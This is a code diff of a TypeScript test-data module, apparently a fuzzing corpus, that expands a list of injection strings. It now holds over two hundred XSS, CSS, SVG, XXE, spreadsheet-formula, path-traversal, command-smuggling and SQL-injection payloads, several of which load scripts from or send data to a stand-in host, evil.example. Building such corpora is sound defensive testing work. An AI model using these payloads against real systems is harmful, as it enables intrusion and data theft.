@@ -1,5 +1,5 @@
 /** Words that turn into something else wherever text is taken for markup, an address, a style or a template. */
-export const payloads: readonly string[] = [
+export const markup: readonly string[] = [
   '<script>alert(1)</script>',
   '</script><script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></ScRiPt>',
@@ -50,10 +50,168 @@ export const payloads: readonly string[] = [
   "'; DROP TABLE users; -- $& $1 $`",
 ]
 
-/** The same, as few texts as fit into so many characters each. */
-export const packed = (limit: number): string[] => {
+const events = (
+  'abort animationend auxclick beforeinput beforematch beforetoggle blur canplay change click close contextmenu copy cuechange cut dblclick drag drop ' +
+  'error focus focusin formdata gotpointercapture hashchange input invalid keydown load loadeddata message mousedown mouseover paste play pointerdown ' +
+  'pointermove popstate progress reset resize scroll scrollend securitypolicyviolation select slotchange submit toggle touchstart transitionend wheel'
+).split(' ')
+const elements = ['img src=x', 'svg', 'video src=x', 'details open', 'body', 'input autofocus', 'a href=#', 'form', 'select', 'x contenteditable']
+
+/** Each way of the browser's to run something by itself, on one element after the other. */
+const handlers = events.map((event, i) => `<${elements[i % elements.length] ?? ''} on${event}=alert(${i})>`)
+
+const styles = [
+  'body{background:url(//evil.example/a.png)}',
+  '@import url(//evil.example/a.css);',
+  '@import "//evil.example/b.css";',
+  '@font-face{font-family:x;src:url(//evil.example/x.woff2)}',
+  '@namespace url(//evil.example/ns);',
+  '@charset "utf-7";+ADw-script+AD4-alert(1)',
+  'x{width:expression(alert(1))}',
+  'x{behavior:url(//evil.example/x.htc)}',
+  'x{-moz-binding:url(//evil.example/x.xml#x)}',
+  'x{background:image-set("//evil.example/a.png" 1x)}',
+  'x{cursor:url(//evil.example/a.cur),auto}',
+  'x{list-style:url(//evil.example/a.png)}',
+  'x{content:url(//evil.example/a.svg)}',
+  'x{mask:url(//evil.example/a.svg#m)}',
+  'x{filter:url(//evil.example/a.svg#f)}',
+  'x{border-image:url(//evil.example/a.png)}',
+  'x{src:local("x"),url(data:font/woff2;base64,AAAA)}',
+  'x{--a:url(//evil.example/v.png);background:var(--a)}',
+  'x{background:u\\72l(//evil.example/e.png)}',
+  'x{background:url(java\\script:alert(1))}',
+  'input[value^=a]{background:url(//evil.example/a)}',
+  '</style><script>alert(1)</script>',
+  '</style><img src=x onerror=alert(1)>',
+  '<!--*/}*{display:none}/*-->',
+  '*{position:fixed;inset:0;z-index:99999}',
+]
+
+const drawings = [
+  '<svg/onload=alert(1)>',
+  '<svg><set attributeName=href to=javascript:alert(1)>',
+  '<svg><animate href=#x attributeName=href values=javascript:alert(1)>',
+  '<svg><image href=//evil.example/a.png>',
+  '<svg><image xlink:href="data:image/svg+xml;base64,PHN2Zy8+">',
+  '<svg><feImage href=//evil.example/f.png>',
+  '<svg><use href=//evil.example/a.svg#x>',
+  '<svg><use href="#a"/><g id=a><use href="#a"/></g>',
+  '<svg><style>@import"//evil.example/s.css"</style>',
+  '<svg><style><!--</style><script>alert(1)</script>',
+  '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]>',
+  '<svg><title><style></title><img src=x onerror=alert(1)>',
+  '<svg><handler type=text/javascript>alert(1)</handler>',
+  '<svg><text><textPath href=//evil.example/p>x',
+  '<svg><pattern id=p width=1e9 height=1e9>',
+  '<svg viewBox="0 0 99999999 99999999"><rect/>',
+  '<?xml-stylesheet href="//evil.example/x.xsl"?><svg/>',
+  '<!DOCTYPE svg [<!ENTITY a "aa">]><svg>&a;</svg>',
+  '<!DOCTYPE svg SYSTEM "file:///etc/passwd"><svg/>',
+  '<!ENTITY % x SYSTEM "//evil.example/x.dtd"> %x;',
+  '<math href=javascript:alert(1)>x</math>',
+  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+  '<mglyph><style><!--</style><img title="--><img src=x>">',
+  '<svg><script href=data:,alert(1) />',
+  '<svg><script xlink:href=//evil.example/x.js></script>',
+]
+
+const tables = [
+  '=1+1',
+  '=cmd|/c calc!A0',
+  '=HYPERLINK("//evil.example","x")',
+  '=WEBSERVICE("//evil.example/?"&A1)',
+  '=IMPORTXML("//evil.example/x","//a")',
+  '=IMAGE("//evil.example/a.png")',
+  '=DDE("cmd";"/C calc";"x")',
+  '+1+cmd|/C calc!A0',
+  '-2+3+cmd|/C calc!A0',
+  '@SUM(1+1)*cmd|/C calc!A0',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  '"=1+1"',
+  "''=1+1",
+  '";=1+1;"',
+  ',,,=1+1',
+  '|calc',
+  '%0A=1+1',
+  '=1+1";=1+1',
+  '""",=1+1',
+  '0x1F,1e309,-0',
+  'sep=;',
+  '#VALUE!',
+]
+
+const fileNames = [
+  '../../etc/passwd',
+  '..\\..\\boot.ini',
+  '%2e%2e%2fpasswd',
+  '....//....//x.csv',
+  'C:\\x.csv',
+  '\\\\evil.example\\x.csv',
+  'file:///etc/passwd',
+  'CON.csv',
+  'x.csv;.html',
+  'x.html%00.csv',
+  'x.csv::$DATA',
+  '.htaccess',
+  '`id`.csv',
+  '$(id).csv',
+  '| id.csv',
+  '; id.csv',
+  '&& id.csv',
+  '-rf.csv',
+  '*.csv',
+  '"; filename="x.html',
+  'x.csv"; name="y',
+  '<x>.csv',
+  'x.svg.csv',
+  '{{x}}.csv',
+  '~root.csv',
+]
+
+const disguises = [
+  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(alert(1))//',
+  '<a href="jav&#x09;ascript:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href=//evil.example ping=//evil.example/p>x</a>',
+  '<img srcset="//evil.example/a.png 1x">',
+  '<img src="//evil.example/a.png" loading=eager>',
+  '<picture><source srcset=//evil.example/a.png><img></picture>',
+  '<script type=module src=//evil.example/m.js></script>',
+  '<script type=importmap>{"imports":{"x":"//evil.example"}}</script>',
+  '<link rel=preload as=script href=//evil.example/p.js>',
+  '<link rel=dns-prefetch href=//evil.example>',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<xmp><img src=x onerror=alert(1)></xmp>',
+  '<plaintext><script>alert(1)</script>',
+  '<isindex action=javascript:alert(1) type=image>',
+  '<portal src=//evil.example>',
+  '<dialog open onclose=alert(1)><form method=dialog><button>x',
+  '<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>',
+  '<div style=width:expression(alert(1))>',
+  '<p v-html="alert(1)" :onclick="alert(1)" @click="alert(1)">',
+  '{{$emit.constructor`alert(1)`()}}',
+  '<p is=vue:script>alert(1)</p>',
+  '＜script＞alert(1)＜/script＞',
+  '‹script›alert(1)‹/script›',
+  "1' OR '1'='1",
+  '1; UPDATE users SET role = 0x61646d696e --',
+  '" OR SLEEP(5) #',
+  "%' ESCAPE '!' OR 1=1 --",
+]
+
+/** All of them: more than two hundred, for HTML, styles, drawings, spreadsheets, names of files, and in disguise. */
+export const payloads: readonly string[] = [...new Set([...markup, ...handlers, ...styles, ...drawings, ...tables, ...fileNames, ...disguises])]
+
+/** Several in one text, as few texts as fit into so many characters each. */
+export const packed = (limit: number, some: readonly string[] = markup): string[] => {
   const texts: string[] = []
-  for (const payload of payloads) {
+  for (const payload of some) {
     const longer = `${texts.at(-1)} ${payload}`
     if (texts.length > 0 && longer.length <= limit) texts[texts.length - 1] = longer
     else texts.push(payload)
